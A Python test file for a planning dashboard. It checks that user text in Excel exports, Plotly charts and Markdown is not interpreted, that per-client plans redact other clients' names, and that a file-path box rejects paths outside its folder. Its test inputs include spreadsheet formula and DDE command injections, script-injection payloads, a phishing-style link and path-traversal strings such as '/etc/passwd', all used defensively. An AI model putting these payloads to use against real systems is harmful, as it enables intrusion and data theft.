"""Safety: user text stays text (workbooks, the page's Markdown, plotly labels), per-client
plans hold one client's names only, and the scenario-file box stays inside its folder."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from optimizer.bundle import (
    parse_tables,
    read_tables,
    read_xlsx_bytes,
    settings_dict,
    tables_to_xlsx_bytes,
    write_bundle,
)
from optimizer.schema import CLIENTS, METHODS, RESOURCES, Settings

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "sample_data"

# Text a spreadsheet would take for a formula, a link, a number or an escape, and Unicode.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "=cmd|' /C calc'!'A1'",
    "+SUM(1,2)",
    "-1+2",
    "@SUM(A1:A3)",
    "'=1+1",
    "'quoted",
    "  spaced  ",
    "=1+1",
    "Café",
    "Cafe\u0301",
    "_x0041_ literal",
    "tab\there",
    "two\nlines",
    "0042",
    "1e3",
    "TRUE",
    "http://example.invalid/x",
    "Ελληνικά 中文 😀",
]


def _sample_tables() -> dict[str, pd.DataFrame]:
    tables, _, issues = read_tables(SAMPLE)
    assert not [i for i in issues if i.severity == "error"]
    return tables


def _hostile_tables() -> dict[str, pd.DataFrame]:
    tables = _sample_tables()
    cli = tables[CLIENTS].copy()
    for i in range(len(cli)):
        cli.loc[i, "name"] = HOSTILE[i % len(HOSTILE)]
        cli.loc[i, "segment"] = HOSTILE[(i + 3) % len(HOSTILE)]
    tables[CLIENTS] = cli
    met = tables[METHODS].copy()
    for i in range(len(met)):
        met.loc[i, "name"] = HOSTILE[(i + 7) % len(HOSTILE)]
        met.loc[i, "unit"] = HOSTILE[(i + 11) % len(HOSTILE)]
    tables[METHODS] = met
    res = tables[RESOURCES].copy()
    res.loc[0, "name"] = "=1+1"
    tables[RESOURCES] = res
    return tables


def _no_formulas(data: bytes) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


def test_inputs_workbook_writes_text_as_strings_and_round_trips() -> None:
    tables = _hostile_tables()
    data = tables_to_xlsx_bytes(tables, settings_dict(Settings()))
    _no_formulas(data)
    back, _, issues = read_xlsx_bytes(data)
    assert not [i for i in issues if i.severity == "error"]
    for t, frame in tables.items():
        got = back[t]
        assert list(got.columns) == list(frame.columns), t
        for col in ("name", "segment", "unit"):
            if col in frame.columns:
                assert got[col].tolist() == frame[col].tolist(), (t, col)
    assert parse_tables(back).fingerprint() == parse_tables(tables).fingerprint()


def test_dashboard_download_keeps_number_like_names_as_typed() -> None:
    from ui.cells import typed_tables

    tables = _hostile_tables()
    data = tables_to_xlsx_bytes(typed_tables(tables), settings_dict(Settings()))
    _no_formulas(data)
    back, _, _ = read_xlsx_bytes(data)
    # The dashboard's tables hold stripped text: every name comes back as it was held.
    want = [str(n).strip() for n in tables[CLIENTS]["name"]]
    assert back[CLIENTS]["name"].tolist() == want
    assert parse_tables(back).fingerprint() == parse_tables(tables).fingerprint()
    # Numbers stay numbers in the workbook.
    ws = openpyxl.load_workbook(io.BytesIO(data))["resources"]
    assert isinstance(ws["D2"].value, int | float), ws["D2"].value


def test_write_bundle_xlsx_round_trips_hostile_names(tmp_path: Path) -> None:
    problem = parse_tables(_hostile_tables())
    path = write_bundle(problem, tmp_path / "bundle.xlsx")
    _no_formulas(path.read_bytes())
    back = parse_tables(read_tables(path)[0])
    assert back.clients["name"].tolist() == problem.clients["name"].tolist()
    assert back.methods["name"].tolist() == problem.methods["name"].tolist()
    assert back.fingerprint() == problem.fingerprint()


@pytest.mark.parametrize("payload", HOSTILE)
def test_one_hostile_cell_round_trips(payload: str) -> None:
    frame = pd.DataFrame({"client_id": ["c1"], "name": [payload]}, dtype=object)
    data = tables_to_xlsx_bytes({CLIENTS: frame}, {})
    _no_formulas(data)
    back, _, _ = read_xlsx_bytes(data)
    assert back[CLIENTS]["name"].tolist() == [payload]


# ---- plotly labels ------------------------------------------------------------------------
LINK = '<a href="https://evil.invalid">x</a>'
PLOTLY_PAYLOADS = {
    "client": LINK,
    "client2": "<b>bold</b> &amp; <br>%{x}",
    "method": '<a href="javascript:alert(1)">m</a>',
    "pool": "<img src=x onerror=alert(1)>",
    "unit": "<i>h</i>",
}


def _plotly_problem():
    tables = _sample_tables()
    cli = tables[CLIENTS].copy()
    cli.loc[0, "name"] = PLOTLY_PAYLOADS["client"]
    cli.loc[1, "name"] = PLOTLY_PAYLOADS["client2"]
    tables[CLIENTS] = cli
    met = tables[METHODS].copy()
    met.loc[0, "name"] = PLOTLY_PAYLOADS["method"]
    tables[METHODS] = met
    res = tables[RESOURCES].copy()
    for i in range(len(res)):
        res.loc[i, "name"] = f"{PLOTLY_PAYLOADS['pool']} {i}"
        res.loc[i, "unit"] = PLOTLY_PAYLOADS["unit"] if i else "EUR"
    tables[RESOURCES] = res
    return parse_tables(tables)


def _strings(obj: object):
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for v in obj.values():
            yield from _strings(v)
    elif isinstance(obj, list | tuple):
        for v in obj:
            yield from _strings(v)


def _assert_no_markup_from_users(figs: list[dict]) -> None:
    found = set()
    for fig in figs:
        for s in _strings(fig):
            low = s.lower()
            assert "<a" not in low and "<img" not in low and "<b>" not in low, s
            assert "<i>" not in low, s
            for payload in PLOTLY_PAYLOADS.values():
                if _plotly_escaped(payload) in s:
                    found.add(payload)
    # Each payload is there, escaped, so it is drawn as typed.
    assert found == set(PLOTLY_PAYLOADS.values()), found


def _plotly_escaped(text: str) -> str:
    return (
        text.replace("&amp;", "&amp;amp;")
        .replace("<", "&lt;")
        .replace(">", "&gt;")
        .replace("%{", "&#37;{")
    )


def _report_figures(html: bytes) -> list[dict]:
    import json
    import re

    text = html.decode("utf-8")
    dec = json.JSONDecoder()
    figs = []
    for m in re.finditer(r'Plotly\.newPlot\("chart-\d+", ', text):
        data, end = dec.raw_decode(text, m.end())
        layout, _ = dec.raw_decode(text, end + 2)
        figs.append({"data": data, "layout": layout})
    return figs


def test_html_report_charts_escape_user_text() -> None:
    from optimizer import export, solve

    problem = _plotly_problem()
    result = solve(problem)
    data = export.html_report(problem, result)
    figs = _report_figures(data)
    assert len(figs) == len(export.report_figures(problem, result)) >= 3
    _assert_no_markup_from_users(figs)
    assert b"evil.invalid" in data  # the text is there, only not as a link
    assert not re.search(rb"<a\s[^>]*evil\.invalid", data)


def test_page_charts_escape_user_text() -> None:
    from optimizer import solve
    from ui import charts
    from ui.text import Translator

    problem = _plotly_problem()
    result = solve(problem)
    t = Translator("en")
    figs = [
        charts.units_heatmap(result, t),
        charts.value_by_client(result, t),
        charts.pool_use_by_client(result, t),
        charts.value_curves(problem, result, str(problem.clients.index[0]), t),
    ]
    _assert_no_markup_from_users([f.to_plotly_json() for f in figs])


def test_plotly_text_keeps_plain_text() -> None:
    from optimizer.export.figures import plotly_text
    from ui.charts import plot_text

    for f in (plotly_text, plot_text):
        assert f("Marlo Home & Garden") == "Marlo Home & Garden"
        assert f("a < b") == "a &lt; b"
        assert f("&lt;") == "&amp;lt;"
        assert f("&#60;") == "&amp;#60;"
        assert f("50% off %{y}") == "50% off &#37;{y}"


# ---- per-client plans ---------------------------------------------------------------------
TINY = ROOT / "tests" / "fixtures" / "tiny"
# Three clients with unique marker names; the third's name is typed in NFC (one 'é').
PLAN_CLIENTS = {
    "brennqx": "Brennqx Pumpworks",
    "hartqx": "Hartqx Castings",
    "zyxwqx": "Caf\u00e9qx Zyxw",
}


def _leaky_problem():
    from optimizer.schema import RELATIONSHIP

    tables, raw, issues = read_tables(TINY)
    rename = dict(zip(["acme", "kedr", "zeta"], PLAN_CLIENTS))
    for t in tables:
        if "client_id" in tables[t].columns:
            f = tables[t].copy()
            f["client_id"] = f["client_id"].map(lambda c: rename.get(c, c))
            tables[t] = f
    cli = tables[CLIENTS].copy()
    cli["name"] = [PLAN_CLIENTS[c] for c in cli["client_id"]]
    cli.loc[0, "segment"] = "Supplier of hartqx castings"
    tables[CLIENTS] = cli
    # A pool named after a client heads a column of every plan; a method names another.
    res = tables[RESOURCES].copy()
    res.loc[1, "name"] = "Hartqx Castings hours"
    res.loc[1, "unit"] = "h (zyxwqx)"
    tables[RESOURCES] = res
    met = tables[METHODS].copy()
    met.loc[0, "name"] = "Demo at BRENNQX PUMPWORKS"
    met.loc[1, "unit"] = "month for hartqx"
    tables[METHODS] = met
    nfd_cafe = "Cafe\u0301qx Zyxw"  # the same name in NFD
    tables[RELATIONSHIP] = pd.DataFrame(
        {
            "client_id": list(PLAN_CLIENTS),
            "plan_agreed": ["yes", "no", "unknown"],
            "open_problems": [
                f"write to anna@hartqx castings.de and {nfd_cafe}; see brennqx_2026.pdf",
                "joint order Brennqx Pumpworks-Hartqx Castings, mail ops@zyxwqx.example",
                "CAF\u00c9QX ZYXW asks what Brennqx pumpworks got (ref BRENNQX-7)",
            ],
            "last_review": ["2026-01-01", "2026-01-02", "2026-01-03"],
        },
        dtype=object,
    )
    return parse_tables(tables, raw, issues)


def _folded(blob: bytes) -> str:
    import unicodedata

    text = blob.decode("utf-8", errors="ignore")
    return unicodedata.normalize("NFC", unicodedata.normalize("NFC", text).casefold())


def test_client_plans_hold_no_other_clients_name_or_id(tmp_path: Path) -> None:
    from optimizer import export, solve
    from optimizer.export import ExportMeta
    from optimizer.export.client_plans import mention_key

    problem = _leaky_problem()
    result = solve(problem)
    meta = ExportMeta(
        scenario="Plan for hartqx after Café talks",
        client_notes={
            "brennqx": "ask Hartqx Castings first",
            "hartqx": "brennqx-zyxwqx deal",
            "zyxwqx": "nothing",
        },
    )
    written = export.write_client_plans(problem, result, tmp_path, meta)
    assert len(written) == 2 * len(PLAN_CLIENTS)
    for path in written:
        own = path.stem.removeprefix("plan_")
        assert own in PLAN_CLIENTS
        others = [c for c in PLAN_CLIENTS if c != own]
        # Each other client's id, and the first word of its name (unique markers).
        needles = {mention_key(x).split()[0] for c in others for x in (c, PLAN_CLIENTS[c])}
        raw = path.read_bytes()
        blobs = {"file": raw, "name": path.name.encode()}
        if path.suffix == ".xlsx":
            blobs.update(_parts(raw))
            wb = openpyxl.load_workbook(path)
            blobs["sheets"] = " ".join(wb.sheetnames).encode()
            p = wb.properties
            blobs["props"] = " ".join(
                str(getattr(p, k) or "") for k in ("title", "subject", "creator", "keywords")
            ).encode()
        for part, blob in blobs.items():
            text = _folded(blob)
            for needle in needles:
                # The marker words are unique, so any of them in a plan is a leak.
                assert needle not in text, (path.name, part, needle)
        # The own client's name stays, whole.
        own_key = mention_key(PLAN_CLIENTS[own])
        assert any(own_key in _folded(b) for b in blobs.values()), path.name


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def test_mentions_match_inside_words_in_any_normal_form_and_case() -> None:
    from optimizer.export.client_plans import Mentions

    problem = _leaky_problem()
    m = Mentions(problem, "[X]")
    cases = {
        "anna@brennqx.de": "anna@[X].de",
        "Brennqx Pumpworks-Hartqx Castings": "[X]-Hartqx Castings",
        "brennqx_2026.pdf": "[X]_2026.pdf",
        "Pumpworks alone": "Pumpworks alone",  # part of a name is not a mention
        "Cafe\u0301qx Zyxw and CAFÉQX ZYXW": "[X] and [X]",
        "Caféqx\u00a0Zyxw": "[X]",
        "ZYXWQX-7": "[X]-7",
    }
    for text, want in cases.items():
        assert m.redact(text, "hartqx") == want, text
    # The own client is kept; the longest mention wins.
    assert m.redact("Hartqx Castings hours", "hartqx") == "Hartqx Castings hours"
    assert m.redact("Hartqx Castings hours", "brennqx") == "[X] hours"


# ---- the page: user text inside Markdown ---------------------------------------------------
DASHBOARD = ROOT / "dashboard.py"
EVIL_NAME = (
    "![x](http://example.invalid/a.png) [Re-enter your password](https://evil.invalid) "
    "<b>bold</b> *star*"
)
EVIL_TEXT = (
    "see [here](https://evil.invalid/x) ![i](http://example.invalid/i.png) <img src=x> "
    "_em_ :red[alarm] $x^2$ `code` mail@evil.invalid www.evil.invalid"
)
# Pieces of the payloads that Markdown would turn into an image, a link, HTML, emphasis, a
# colour, LaTeX, code or an autolink: none may reach an element's Markdown source as typed.
LIVE = [
    "![x](",
    "](http",
    "[Re-enter your password]",
    "<b>",
    "*star*",
    "[here](",
    "![i](",
    "<img",
    "_em_",
    ":red[",
    "$x^2$",
    "`code`",
    "https://",
    "http://",
    "mail@evil",
    "www.evil",
]


def _sources(at) -> list[str]:
    """The Markdown source of every element that renders Markdown: text elements, alerts,
    metric labels and values, widget labels and help texts."""
    out: list[str] = []
    for kind in ("markdown", "caption", "info", "warning", "error", "success", "subheader"):
        out += [str(e.value) for e in getattr(at, kind)]
    out += [s for m in at.metric for s in (str(m.label), str(m.value))]
    for kind in ("selectbox", "number_input", "text_input", "checkbox", "button", "slider"):
        for w in getattr(at, kind):
            out += [str(getattr(w, "label", "") or ""), str(getattr(w, "help", "") or "")]
    for w in at.sidebar.number_input:
        out += [str(w.label), str(w.help or "")]
    return out


def _shown(source: str) -> str:
    """What a Markdown source shows once its backslash escapes are read."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", source)


def _assert_literal(at, *payloads: str) -> None:
    assert not at.exception, [e.value for e in at.exception]
    sources = _sources(at)
    for s in sources:
        # An escaped character is inert: blank it out, then look for live Markdown.
        live = re.sub(r"\\[!-/:-@\[-`{-~]", "\x00", s)
        for piece in LIVE:
            assert piece not in live, (piece, s)
    for payload in payloads:
        assert any(payload in _shown(s) for s in sources), payload


def _hostile_app():
    from streamlit.testing.v1 import AppTest

    from ui import state
    from ui.relationship_tab import AS_OF_KEY

    at = AppTest.from_file(str(DASHBOARD), default_timeout=120).run()
    tables = dict(at.session_state[state.TABLES_KEY])
    cli = tables[CLIENTS].copy()
    row = cli.index[cli["client_id"] == "kedr_stanko"][0]
    cli.loc[row, "name"] = EVIL_NAME
    cli.loc[row, "segment"] = "<b>seg</b> *star*"
    tables[CLIENTS] = cli
    relt = tables["relationship"].copy()
    r = relt.index[relt["client_id"] == "kedr_stanko"][0]
    relt.loc[r, "open_problems"] = EVIL_TEXT
    tables["relationship"] = relt
    at.session_state[state.TABLES_KEY] = tables
    at.session_state[AS_OF_KEY] = __import__("datetime").date(2026, 11, 28)
    return at.run()


def test_plan_client_and_relationship_tabs_show_user_text_literally() -> None:
    from ui import state

    at = _hostile_app()
    # Plan: the checklist's warnings name the client and quote its open problems.
    _assert_literal(at, EVIL_NAME, EVIL_TEXT)
    # Client view of that client: its open problems, unconfirmed commitments, segment.
    at.session_state[state.OPEN_TAB_KEY] = "client"
    at.run()
    at.selectbox(key="client_pick_widget").set_value("kedr_stanko").run()
    _assert_literal(at, EVIL_TEXT, "<b>seg</b> *star*")
    # Relationship: the unconfirmed commitments name the client.
    at.session_state[state.OPEN_TAB_KEY] = "relationship"
    at.run()
    _assert_literal(at, EVIL_NAME)


def _scenarios_app(monkeypatch: pytest.MonkeyPatch, db: Path, **env: str):
    from streamlit.testing.v1 import AppTest

    from ui import state

    monkeypatch.setenv("RISK_PLANNER_DB", str(db))
    for k in ("RISK_PLANNER_SCENARIO_DIR", "RISK_PLANNER_SCENARIO_BOX"):
        monkeypatch.delenv(k, raising=False)
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    at = AppTest.from_file(str(DASHBOARD), default_timeout=120).run()
    at.session_state[state.OPEN_TAB_KEY] = "scenarios"
    return at.run()


def test_scenarios_tab_shows_names_and_notes_literally(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = _scenarios_app(monkeypatch, tmp_path / "s.sqlite3")
    at.text_input(key="scenario_name").set_value(EVIL_NAME).run()
    at.text_area(key="scenario_notes").set_value(EVIL_TEXT).run()
    at.button(key="scenario_save").click().run()
    # The message after saving names the scenario, the list quotes its notes.
    _assert_literal(at, EVIL_NAME, EVIL_TEXT)


def _texts(at) -> str:
    return "\n".join(
        _shown(str(e.value)) for kind in ("error", "caption", "success") for e in getattr(at, kind)
    )


def test_scenario_box_refuses_paths_outside_its_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ui.scenarios import DB_KEY
    from ui.text import Translator

    folder, outside = tmp_path / "scenarios", tmp_path / "elsewhere"
    folder.mkdir()
    outside.mkdir()
    (folder / "link").symlink_to(outside, target_is_directory=True)
    at = _scenarios_app(monkeypatch, folder / "default.sqlite3")
    t = Translator("en")
    for typed in (
        str(outside / "x.sqlite3"),
        "../elsewhere/y.sqlite3",
        str(folder / ".." / "elsewhere" / "z.sqlite3"),
        "link/w.sqlite3",
        f"sqlite:///{outside / 'u.sqlite3'}",
        "/etc/passwd",
    ):
        at.text_input(key=DB_KEY).set_value(typed).run()
        assert not at.exception, [e.value for e in at.exception]
        refused = t("sc_dir_refused", folder=str(folder.resolve()), path=typed)
        assert refused in _texts(at), typed
        # The page keeps using the default file, and saving writes nothing outside.
        at.text_input(key="scenario_name").set_value("one").run()
        at.button(key="scenario_save").click().run()
        assert not at.exception, [e.value for e in at.exception]
        assert list(outside.iterdir()) == [], typed
    assert (folder / "default.sqlite3").exists()
    # A file inside the folder is used.
    at.text_input(key=DB_KEY).set_value("team.sqlite3").run()
    assert "Scenario files can only" not in _texts(at)
    at.text_input(key="scenario_name").set_value("two").run()
    at.button(key="scenario_save").click().run()
    assert not at.exception, [e.value for e in at.exception]
    from optimizer.store import ScenarioStore

    assert ScenarioStore(folder / "team.sqlite3").names() == ["two"]
    assert str(folder / "team.sqlite3") in _texts(at)


def test_scenario_folder_is_configured_and_the_box_can_be_off(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ui.scenarios import DB_KEY

    shared = tmp_path / "shared"
    shared.mkdir()
    db = tmp_path / "home" / "default.sqlite3"
    at = _scenarios_app(monkeypatch, db, RISK_PLANNER_SCENARIO_DIR=str(shared))
    at.text_input(key=DB_KEY).set_value(str(shared / "team.sqlite3")).run()
    at.text_input(key="scenario_name").set_value("a").run()
    at.button(key="scenario_save").click().run()
    assert not at.exception, [e.value for e in at.exception]
    assert (shared / "team.sqlite3").exists() and not db.exists()
    # Turned off: no box, and a path put into the session is not used.
    at = _scenarios_app(monkeypatch, db, RISK_PLANNER_SCENARIO_BOX="off")
    assert not [w for w in at.text_input if w.key == DB_KEY]
    at.session_state[DB_KEY] = str(tmp_path / "other.sqlite3")
    at.text_input(key="scenario_name").set_value("b").run()
    at.button(key="scenario_save").click().run()
    assert not at.exception, [e.value for e in at.exception]
    assert db.exists() and not (tmp_path / "other.sqlite3").exists()
